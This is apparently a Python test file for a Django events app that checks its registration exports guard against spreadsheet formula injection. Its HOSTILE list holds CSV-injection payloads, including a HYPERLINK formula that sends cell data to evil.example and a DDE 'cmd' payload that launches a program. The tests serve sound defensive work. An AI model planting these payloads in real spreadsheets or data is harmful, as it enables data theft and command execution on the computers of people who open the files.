"""The registrations export is safe to open in a spreadsheet (issue 20):
OWASP's CSV-injection advice, tested with exactly the characters it names."""

import csv
import io

import pytest

from events.exports import FORMULA_STARTS, neutralise
from events.models import Registration
from events.tests.test_events import open_event, post_registration  # noqa: F401 - fixture

EXPORT_URL = "/admin/snippets/events/registration/"

# What anonymous registrants typed (issue 20), and one per dangerous first character.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(admin_client):
    response = admin_client.get(f"{EXPORT_URL}?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


def test_neutralise_prefixes_exactly_the_formula_starts():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for value in ["Anne Andersen", "RUC", "1+1", " =1", "", None, 42]:
        assert neutralise(value) == value


def test_form_input_is_neutralised_in_the_csv(admin_client, client, open_event):  # noqa: F811
    """Through the public registration form, as an anonymous registrant."""
    response = post_registration(
        client, open_event, "hostile@example.org", organisation=HOSTILE[0], job_title=HOSTILE[1], name=HOSTILE[2]
    )
    assert response.status_code in (200, 302)
    row = next(r for r in csv_rows(admin_client) if r["E-mail"] == "hostile@example.org")
    assert row["Organisation"] == "'" + HOSTILE[0]
    assert row["Stilling"] == "'" + HOSTILE[1]
    assert row["Navn"] == "'" + HOSTILE[2]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_dangerous_start_is_neutralised_csv_and_xlsx_stays_text(admin_client, open_event, value):  # noqa: F811
    """Tab and CR cannot come through the form (Django strips them), so the
    row is stored directly, as an import or another client could."""
    from openpyxl import load_workbook

    Registration.objects.create(
        event=open_event, name=value, email="direct@example.org", organisation=value, job_title=value
    )
    row = next(r for r in csv_rows(admin_client) if r["E-mail"] == "direct@example.org")
    for column in ("Navn", "Organisation", "Stilling"):
        assert row[column] == "'" + value, column
        assert not row[column].startswith(FORMULA_STARTS)

    response = admin_client.get(f"{EXPORT_URL}?export=xlsx")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).active
    # XML turns a lone CR into LF when the workbook is read back.
    cells = [c for r in sheet.iter_rows() for c in r if c.value in (value, value.replace("\r", "\n"))]
    assert cells, "the XLSX lost the value"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
